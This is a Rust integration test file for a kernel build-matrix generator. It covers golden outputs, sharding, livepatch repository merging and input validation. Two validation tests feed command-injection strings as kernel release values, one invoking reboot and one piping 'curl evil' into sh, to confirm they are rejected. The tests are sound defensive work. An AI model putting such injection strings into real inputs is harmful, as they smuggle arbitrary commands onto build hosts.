//! The matrix-gen binary end to end: golden outputs for every source, the `--built` diff and sharding;
//! bad input; add-kernel idempotence and concurrency. Golden files live in tests/golden and are
//! rewritten with `UPDATE_GOLDEN=1`.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

const BIN: &str = env!("CARGO_BIN_EXE_matrix-gen");

fn data(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data")
        .join(name)
}

fn repo_kernels_json() -> PathBuf {
    testkit::workspace_root().join("kernels.json")
}

fn run(args: &[&str]) -> Output {
    Command::new(BIN)
        .args(args)
        .output()
        .expect("matrix-gen runs")
}

/// stdout, then stderr, so the golden file shows what a CI log would.
fn transcript(output: &Output) -> String {
    format!(
        "exit: {}\n--- stdout ---\n{}--- stderr ---\n{}",
        output.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    )
}

fn check_golden(name: &str, actual: &str) {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/golden")
        .join(format!("{name}.txt"));
    if std::env::var_os("UPDATE_GOLDEN").is_some() {
        std::fs::write(&path, actual).unwrap();
        return;
    }
    let expected = std::fs::read_to_string(&path).unwrap_or_else(|_| {
        panic!(
            "missing golden file {}; run with UPDATE_GOLDEN=1",
            path.display()
        )
    });
    assert_eq!(
        actual, expected,
        "golden mismatch for {name}; rerun with UPDATE_GOLDEN=1 if intended"
    );
}

fn golden_run(name: &str, args: &[&str]) -> Output {
    let output = run(args);
    let text = transcript(&output).replace(&*data("").to_string_lossy(), "<data>/");
    check_golden(name, &text);
    output
}

#[test]
fn generate_from_the_repository_kernels_json() {
    let kernels = repo_kernels_json();
    let k = kernels.to_str().unwrap();
    let out = golden_run(
        "kernels_json_plan",
        &["generate", "--driver-version", "v0.1.2", "--kernels", k],
    );
    assert!(out.status.success());
    let out = golden_run(
        "kernels_json_shard0",
        &[
            "generate",
            "--driver-version",
            "v0.1.2",
            "--kernels",
            k,
            "--shard",
            "0",
        ],
    );
    assert!(out.status.success());
    let filtered = golden_run(
        "kernels_json_filtered",
        &[
            "generate",
            "--driver-version",
            "v0.1.2",
            "--kernels",
            k,
            "--shard",
            "0",
            "--arch",
            "arm64",
            "--distro-version",
            "12",
        ],
    );
    assert!(filtered.status.success());
}

#[test]
fn generate_from_the_real_crawler_sample_reports_what_it_skips() {
    let empty = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(empty.path(), "{}").unwrap();
    let out = golden_run(
        "crawler_sample",
        &[
            "generate",
            "--driver-version",
            "v0.1.2",
            "--kernels",
            empty.path().to_str().unwrap(),
            "--kernel-crawler",
            data("kernel-crawler-x86_64-sample.json").to_str().unwrap(),
            "--shard",
            "0",
        ],
    );
    assert!(out.status.success(), "{}", transcript(&out));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("skipped (unsupported or underivable) entries"),
        "{stderr}"
    );
}

#[test]
fn generate_from_every_supported_family() {
    let empty = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(empty.path(), "{}").unwrap();
    let out = golden_run(
        "crawler_families",
        &[
            "generate",
            "--driver-version",
            "v0.1.2",
            "--kernels",
            empty.path().to_str().unwrap(),
            "--kernel-crawler",
            data("crawler-families.json").to_str().unwrap(),
            "--shard",
            "0",
        ],
    );
    assert!(out.status.success(), "{}", transcript(&out));
    let stdout = String::from_utf8_lossy(&out.stdout);
    for expected in [
        "\"kernel_version\":\"6.12.115+deb13-amd64\",\"architecture\":\"x86_64\",\"distribution\":\"debian\",\"distro_version\":\"13\"",
        "\"kernel_version\":\"6.1.0-0.deb11.25-amd64\"",
        "\"kernel_version\":\"6.8.0-52-generic\",\"architecture\":\"x86_64\",\"distribution\":\"ubuntu\",\"distro_version\":\"22.04\"",
        "\"distribution\":\"fedora\",\"distro_version\":\"42\"",
        "\"distribution\":\"centos\",\"distro_version\":\"stream10\"",
        "\"distribution\":\"amazonlinux\",\"distro_version\":\"2023\"",
        "https://al.example.org/al2023/blobstore/def/kernel-devel-6.1.127-135.201.amzn2023.x86_64.rpm",
    ] {
        assert!(stdout.contains(expected), "missing {expected}");
    }
    // The two Debian 13 entries are one identity: deduplicated.
    assert_eq!(
        stdout
            .matches("\"kernel_version\":\"6.12.115+deb13-amd64\"")
            .count(),
        1
    );
}

/// A repository made with the real createrepo_c from RPMs named like AL2023 livepatch packages.
/// Debian's createrepo_c writes gzip metadata only; for zstd the primary file is recompressed with the
/// real zstd tool and repomd.xml pointed at it, as a zstd-writing createrepo would.
fn livepatch_repository(zstd: bool) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    for (name, release, arch) in [
        ("kernel-livepatch-6.1.186-228.376", "2.amzn2023", "x86_64"),
        ("kernel-livepatch-6.12.110-135.201", "1.amzn2023", "x86_64"),
        ("kernel-livepatch-6.12.110-135.201", "1.amzn2023", "aarch64"),
        ("kernel-livepatch-repo-s3", "1.amzn2023", "noarch"),
    ] {
        let package =
            rpm::PackageBuilder::new(name, "1.0", "GPL-2.0-only", arch, "livepatch fixture")
                .release(release)
                .build()
                .unwrap();
        package
            .write_file(dir.path().join(format!("{name}-1.0-{release}.{arch}.rpm")))
            .unwrap();
    }
    let status = Command::new("createrepo_c")
        .arg("--quiet")
        .arg(dir.path())
        .status()
        .expect("createrepo_c is installed (apt-get install createrepo-c)");
    assert!(status.success());
    if zstd {
        let repodata = dir.path().join("repodata");
        let primary_gz = std::fs::read_dir(&repodata)
            .unwrap()
            .map(|e| e.unwrap().file_name().into_string().unwrap())
            .find(|n| n.ends_with("-primary.xml.gz"))
            .unwrap();
        let primary_zst = primary_gz.replace(".xml.gz", ".xml.zst");
        let shell = format!("gzip -dc {primary_gz} | zstd -q -o {primary_zst} && rm {primary_gz}");
        assert!(
            Command::new("sh")
                .arg("-c")
                .arg(shell)
                .current_dir(&repodata)
                .status()
                .unwrap()
                .success()
        );
        let repomd = std::fs::read_to_string(repodata.join("repomd.xml")).unwrap();
        std::fs::write(
            repodata.join("repomd.xml"),
            repomd.replace(&primary_gz, &primary_zst),
        )
        .unwrap();
    }
    dir
}

/// Serves a directory over HTTP on loopback for a bounded number of requests.
fn serve_dir(root: PathBuf, requests: usize) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for stream in listener.incoming().take(requests) {
            let mut stream = stream.unwrap();
            let mut buf = [0u8; 4096];
            let n = stream.read(&mut buf).unwrap_or(0);
            let request = String::from_utf8_lossy(&buf[..n]);
            let path = request
                .split_whitespace()
                .nth(1)
                .unwrap_or("/")
                .trim_start_matches('/');
            match std::fs::read(root.join(path)) {
                Ok(body) => {
                    let _ = write!(
                        stream,
                        "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                        body.len()
                    );
                    let _ = stream.write_all(&body);
                }
                Err(_) => {
                    let _ = write!(
                        stream,
                        "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                    );
                }
            }
        }
    });
    base
}

#[test]
fn livepatch_kernels_merge_deduplicated_from_a_directory_or_url() {
    let repo = livepatch_repository(false);
    let zstd_repo = livepatch_repository(true);
    let kernels = repo_kernels_json();
    let args = |source: &str| {
        run(&[
            "generate",
            "--driver-version",
            "v0.1.2",
            "--kernels",
            kernels.to_str().unwrap(),
            "--livepatch-repo",
            source,
            "--livepatch-repo",
            source,
            "--shard",
            "0",
        ])
    };
    let from_dir = args(repo.path().to_str().unwrap());
    assert!(from_dir.status.success(), "{}", transcript(&from_dir));
    check_golden(
        "livepatch_merge",
        &String::from_utf8_lossy(&from_dir.stdout),
    );
    let url = serve_dir(repo.path().to_path_buf(), 4);
    let from_url = args(&url);
    assert!(from_url.status.success(), "{}", transcript(&from_url));
    assert_eq!(from_url.stdout, from_dir.stdout);
    let from_zstd = args(zstd_repo.path().to_str().unwrap());
    assert!(from_zstd.status.success(), "{}", transcript(&from_zstd));
    assert_eq!(from_zstd.stdout, from_dir.stdout);
    let stdout = String::from_utf8_lossy(&from_dir.stdout);
    assert!(stdout.contains(
        "\"kernel_version\":\"6.12.110-135.201.amzn2023.aarch64\",\"architecture\":\"aarch64\""
    ));
    assert_eq!(
        stdout
            .matches("6.1.186-228.376.amzn2023.x86_64_v0.1.2_amd64.rpm")
            .count(),
        1
    );
}

#[test]
fn built_artifacts_are_subtracted() {
    let built = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(
        built.path(),
        "# published\nexample-driver-debian-12-6.1.0-47-amd64_v0.1.2_amd64.deb\ndebian/13/x86_64/6.12.115+deb13-amd64/v0.1.2\n\
         example-driver-debian-12-6.12.115+deb12-amd64_v0.1.1_amd64.deb\n",
    )
    .unwrap();
    let kernels = repo_kernels_json();
    let out = golden_run(
        "built_diff",
        &[
            "generate",
            "--driver-version",
            "v0.1.2",
            "--kernels",
            kernels.to_str().unwrap(),
            "--built",
            built.path().to_str().unwrap(),
            "--shard",
            "0",
        ],
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(!stdout.contains("6.1.0-47-amd64_v0.1.2"));
    assert!(!stdout.contains("6.12.115+deb13-amd64_v0.1.2"));
    // Another driver version is another identity: still to build.
    assert!(stdout.contains("6.12.115+deb12-amd64_v0.1.2"));
}

fn synthetic_kernels(count: usize) -> tempfile::NamedTempFile {
    let entries: Vec<String> = (0..count)
        .map(|n| format!("{{\"target\":\"debian\",\"kernelrelease\":\"6.1.0-{n}-amd64\",\"distroversion\":\"12\"}}"))
        .collect();
    let file = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(
        file.path(),
        format!("{{\"x86_64\":[{}],\"aarch64\":[]}}", entries.join(",")),
    )
    .unwrap();
    file
}

#[test]
fn sharding_caps_every_matrix_at_256_jobs() {
    let kernels = synthetic_kernels(600);
    let k = kernels.path().to_str().unwrap();
    let plan = golden_run(
        "shards_600",
        &["generate", "--driver-version", "v0.1.2", "--kernels", k],
    );
    assert!(plan.status.success());
    let mut sizes = Vec::new();
    for shard in 0..3 {
        let out = run(&[
            "generate",
            "--driver-version",
            "v0.1.2",
            "--kernels",
            k,
            "--shard",
            &shard.to_string(),
        ]);
        let line = String::from_utf8(out.stdout).unwrap();
        let json: serde_json::Value =
            serde_json::from_str(line.strip_prefix("matrix=").unwrap().trim()).unwrap();
        sizes.push(json["include"].as_array().unwrap().len());
        assert!(line.len() < 1_000_000);
    }
    assert_eq!(sizes, [256, 256, 88]);
    let out = run(&[
        "generate",
        "--driver-version",
        "v0.1.2",
        "--kernels",
        k,
        "--shard",
        "3",
    ]);
    assert!(!out.status.success());
    let out = run(&[
        "generate",
        "--driver-version",
        "v0.1.2",
        "--kernels",
        k,
        "--max-jobs-per-shard",
        "300",
    ]);
    assert!(!out.status.success());
}

#[test]
fn bad_input_fails_with_the_offending_entry() {
    let cases: [(&str, &str); 5] = [
        ("{\"x86_64\": [", "invalid document"),
        (
            "{\"x86_64\": [{\"target\": \"debian\", \"kernelrelease\": 6, \"distroversion\": \"12\"}]}",
            "x86_64[0]",
        ),
        (
            "{\"x86_64\": [{\"target\": \"slackware\", \"kernelrelease\": \"6.1.0-1\", \"distroversion\": \"15\"}]}",
            "slackware",
        ),
        (
            "{\"x86_64\": [{\"target\": \"debian\", \"kernelrelease\": \"6.1.0-1$(reboot)\", \"distroversion\": \"12\"}]}",
            "x86_64[0]",
        ),
        ("{\"riscv64\": []}", "riscv64"),
    ];
    for (text, expected) in cases {
        let file = tempfile::NamedTempFile::new().unwrap();
        std::fs::write(file.path(), text).unwrap();
        let out = run(&[
            "generate",
            "--driver-version",
            "v0.1.2",
            "--kernels",
            file.path().to_str().unwrap(),
        ]);
        assert!(!out.status.success(), "{text}");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(stderr.contains(expected), "{text}: {stderr}");
    }
}

#[test]
fn one_bad_crawler_entry_in_ten_thousand_needs_skip_invalid() {
    let mut entries: Vec<String> = (0..10_000)
        .map(|n| format!("{{\"kernelversion\":\"1\",\"kernelrelease\":\"6.{}.{}-100.fc42.x86_64\",\"target\":\"fedora\"}}", n / 100, n % 100))
        .collect();
    entries[4_321] =
        "{\"kernelversion\":\"1\",\"kernelrelease\":\"6.1.0;curl evil|sh\",\"target\":\"fedora\"}"
            .into();
    entries[4_322] =
        "{\"kernelversion\":[],\"kernelrelease\":\"6.1.0-1.fc42.x86_64\",\"target\":\"fedora\"}"
            .into();
    let feed = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(
        feed.path(),
        format!(
            "{{\"fedora\":[{}],\"Unknownix\":[{{}}]}}",
            entries.join(",")
        ),
    )
    .unwrap();
    let empty = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(empty.path(), "{}").unwrap();
    let base = [
        "generate",
        "--driver-version",
        "v0.1.2",
        "--kernels",
        empty.path().to_str().unwrap(),
        "--kernel-crawler",
        feed.path().to_str().unwrap(),
    ];
    let strict = run(&base);
    assert!(!strict.status.success());
    let stderr = String::from_utf8_lossy(&strict.stderr);
    assert!(stderr.contains("3 invalid entries"), "{stderr}");
    assert!(
        stderr.contains("kernel_version: must only contain"),
        "{stderr}"
    );
    assert!(
        stderr.contains("fedora[4321] (6.1.0;curl evil|sh)"),
        "{stderr}"
    );
    assert!(
        stderr.contains("kernelversion must be a string or an integer: fedora[4322]"),
        "{stderr}"
    );
    assert!(stderr.contains("Unknownix[0]"), "{stderr}");
    let mut lenient_args = base.to_vec();
    lenient_args.push("--skip-invalid");
    let lenient = run(&lenient_args);
    assert!(lenient.status.success(), "{}", transcript(&lenient));
    assert!(String::from_utf8_lossy(&lenient.stdout).contains("jobs=9998"));
}

fn add(file: &Path, release: &str, distro_version: &str) -> Output {
    run(&[
        "add-kernel",
        "--file",
        file.to_str().unwrap(),
        "--kernel-version",
        release,
        "--architecture",
        "x86_64",
        "--distribution",
        "debian",
        "--distro-version",
        distro_version,
        "--driver-version",
        "v0.1.2",
    ])
}

#[test]
fn add_kernel_is_idempotent_and_prints_the_branch() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("kernels.json");
    std::fs::copy(repo_kernels_json(), &file).unwrap();
    let first = add(&file, "6.1.0-50-amd64", "12");
    assert!(first.status.success(), "{}", transcript(&first));
    assert_eq!(
        String::from_utf8_lossy(&first.stdout),
        "add-kernel/debian/12/x86_64/6-1-0-50-amd64\n"
    );
    let after_first = std::fs::read(&file).unwrap();
    let second = add(&file, "6.1.0-50-amd64", "12");
    assert!(second.status.success());
    assert!(String::from_utf8_lossy(&second.stderr).contains("already"));
    assert_eq!(
        std::fs::read(&file).unwrap(),
        after_first,
        "second add must not change a byte"
    );
    // Untouched entries keep their exact lines: the diff is only the new entry.
    let before = std::fs::read_to_string(repo_kernels_json()).unwrap();
    let after = String::from_utf8(after_first).unwrap();
    let added: Vec<&str> = after
        .lines()
        .filter(|l| !before.lines().any(|b| b == *l))
        .collect();
    assert_eq!(added, ["      \"kernelrelease\": \"6.1.0-50-amd64\","]);
    let refused = add(&file, "6.12.115+deb13-amd64", "12");
    assert!(!refused.status.success());
}

#[test]
fn concurrent_adds_of_different_kernels_all_land() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("kernels.json");
    std::fs::copy(repo_kernels_json(), &file).unwrap();
    let children: Vec<_> = (48..56)
        .map(|n| {
            Command::new(BIN)
                .args([
                    "add-kernel",
                    "--file",
                    file.to_str().unwrap(),
                    "--kernel-version",
                    &format!("6.1.0-{n}-amd64"),
                ])
                .args([
                    "--architecture",
                    "x86_64",
                    "--distribution",
                    "debian",
                    "--driver-version",
                    "v0.1.2",
                ])
                .stderr(std::process::Stdio::null())
                .spawn()
                .unwrap()
        })
        .collect();
    for mut child in children {
        assert!(child.wait().unwrap().success());
    }
    let text = std::fs::read_to_string(&file).unwrap();
    let parsed = kernel_id::KernelsFile::parse(&text).unwrap();
    assert_eq!(parsed.entries(kernel_id::Arch::X86_64).len(), 4 + 8);
    assert_eq!(parsed.to_json_string(), text);
}
